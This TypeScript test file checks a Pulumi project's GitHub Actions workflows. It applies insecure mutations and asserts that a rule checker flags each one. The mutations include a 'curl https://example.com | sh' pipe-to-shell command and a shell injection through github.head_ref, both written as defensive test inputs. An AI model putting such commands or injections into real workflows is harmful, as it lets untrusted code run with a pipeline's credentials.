import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { parse } from "yaml";
import { previousOf, stackFiles } from "../../../settings/stack-files.ts";
import { committed, problemsOf } from "./workflow-rules.ts";

const files = committed();
const workflow = (name: string) => parse(files[`workflows/${name}.yml`] ?? "");
const stacks = stackFiles();
/** Those that a release passes through; dev is a developer's own. */
const delivered = stacks.filter(({ config }) => config["slipway:release"].name).map(({ stack }) => stack);
const promoted = stacks.filter(previousOf).map(({ stack }) => stack);

/** A change that must not go unseen, and what is said of it. */
const mutations: readonly [file: string, from: string | RegExp, to: string, says: RegExp][] = [
  ["previews", / # v7\.0\.1/, "", /checkout@\w+ is not pinned/],
  ["previews", /checkout@\w{40}/, "checkout@v7", /checkout@v7 .* is not pinned/],
  ["previews", "  pull_request:", "  pull_request_target:", /runs on pull_request_target/],
  ["previews", "permissions: {}", "permissions: read-all", /begin with no permissions/],
  ["previews", "permissions: {}\n", "", /begin with no permissions/],
  ["previews", "pull-requests: write", "pull-requests: write\n      issues: write", /comment: its permissions/],
  ["previews", "head.repo.full_name == github.repository", "number > 0", /preview: is open to forks/],
  ["previews", "    needs: preview\n", "", /comment: is open to forks/],
  ["previews", "persist-credentials: false", "persist-credentials: true", /leaves its credentials behind/],
  ["previews", "    timeout-minutes: 20\n", "", /preview: has no end/],
  ["previews", / {4}environment: .*-preview\n/, "", /preview: takes the cloud's credentials without/],
  ["previews", '-s "$STACK"', `-s \${{ github.head_ref }}`, /takes text into a shell/],
  ["previews", "run: npm run review --", "run: npm run reviews --", /no npm run reviews/],
  ["previews", "run: npm ci", "run: npm ci && curl https://example.com | sh", /more than a call of an npm script/],
  ["release", "group: stack-test", "group: release", /test: deploys beside another deployment/],
  ["release", "cancel-in-progress: false", "cancel-in-progress: true", /test: deploys beside .* or can be cut off/],
  [
    "release",
    "id-token: write",
    "id-token: write\n      packages: write",
    /may write to the repository and in the cloud/,
  ],
  ["promoted", / {4}concurrency:\n.*\n.*\n/, "", /deploy: deploys beside another deployment/],
  ["promoted", / +kubeconfig: .*\n/, "", /a job with a role can't reach a cluster .* has no kubeconfig/],
  ["release", / +kubeconfig: .*\n/, "", /a job with a role can't reach a cluster .* has no kubeconfig/],
  ["prod", / +secrets: inherit.*\n/, "", /prod: keeps secrets from what it calls/],
  ["prod", "id-token: write", "packages: write", /prod: its permissions/],
  [
    "pull-request-environment",
    "github.event.pull_request.head.repo.full_name == github.repository &&",
    "",
    /up: is open/,
  ],
  [
    "pull-request-environment",
    "github.event.pull_request.user.login != 'dependabot[bot]' &&",
    "",
    /up: is open to updates of dependencies/,
  ],
  ["pull-request-environment", / +ref: .*\n/, "", /down: is open to updates of dependencies/],
  ["previews", "user.login != 'dependabot[bot]'", "number > 0", /preview: is open to updates of dependencies/],
];

describe("The workflows", () => {
  it("are as they have to be", () => assert.deepEqual(problemsOf(files), []));

  for (const [name, from, to, says] of mutations)
    it(`are seen to be wrong with ${JSON.stringify(to).slice(0, 60)} for ${String(from).slice(0, 50)} in ${name}`, () => {
      const path = `workflows/${name}.yml`;
      const changed = (files[path] ?? "").replace(from, to);
      assert.notEqual(changed, files[path]);
      assert.match(problemsOf({ [path]: changed }).join("\n"), says);
    });

  it("preview and watch every environment that a release passes through", () => {
    assert.deepEqual(workflow("previews").jobs.preview.strategy.matrix.stack, delivered);
    assert.deepEqual(workflow("drift").jobs.check.strategy.matrix.stack, delivered);
    // Each by its name: one whose job wrote nothing is missed.
    const runs = (name: string, job: string) =>
      workflow(name).jobs[job].steps.flatMap(({ run = "" }) => (/ -- /.test(run) ? [run] : []));
    const files = `{${delivered.join(",")}}.json`;
    assert.equal(runs("previews", "comment")[0], `npm run review -- --output review.md previews/${files}`);
    assert.equal(runs("drift", "issue")[0], `npm run drift -- drift/${files}`);
  });

  it("make no release of a promotion alone, and deploy each stack when its own file changes", () => {
    const paths = promoted.map((stack) => `Pulumi.${stack}.yaml`);
    assert.deepEqual(workflow("release").on.push["paths-ignore"], paths);
    for (const stack of promoted) {
      assert.ok(files[`workflows/${stack}.yml`], `${stack} promotes, so it needs .github/workflows/${stack}.yml`);
      const { on, jobs } = workflow(stack);
      assert.deepEqual(on, { push: { branches: ["main"], paths: [`Pulumi.${stack}.yaml`] } });
      assert.deepEqual([jobs[stack].uses, jobs[stack].with], ["./.github/workflows/promoted.yml", { stack }]);
    }
  });

  it("build where nothing was promoted, which is what the releases are numbered for", () => {
    const builders = stacks.filter((file) => !previousOf(file) && delivered.includes(file.stack));
    assert.deepEqual(
      builders.map(({ stack }) => stack),
      ["test"],
    );
    assert.equal(workflow("release").jobs.test.steps.at(-1).run, 'npm run release -- test "v1.$NUMBER"');
  });

  it("use the command line tool of the SDK's version", () => {
    const { dependencies } = JSON.parse(readFileSync("package.json", "utf8"));
    const steps: { with?: Record<string, string> }[] = parse(files["actions/ready/action.yml"] ?? "").runs.steps;
    const versions = steps.flatMap((step) => step.with?.["pulumi-version"] ?? []);
    assert.deepEqual(versions, [dependencies["@pulumi/pulumi"]]);
  });

  it("keep a preview under the name by which it is looked for once it is merged", () => {
    const upload = workflow("previews").jobs.preview.steps.at(-1).with;
    assert.equal(upload.name, `preview-\${{ matrix.stack }}-\${{ github.event.pull_request.head.sha || github.sha }}`);
    assert.equal(upload["retention-days"], 30);
  });

  it("can be started for a pull request that a program opens", () => {
    assert.ok("workflow_dispatch" in workflow("tests").on);
    assert.deepEqual(Object.keys(workflow("previews").on.workflow_dispatch.inputs), ["pull"]);
  });
});
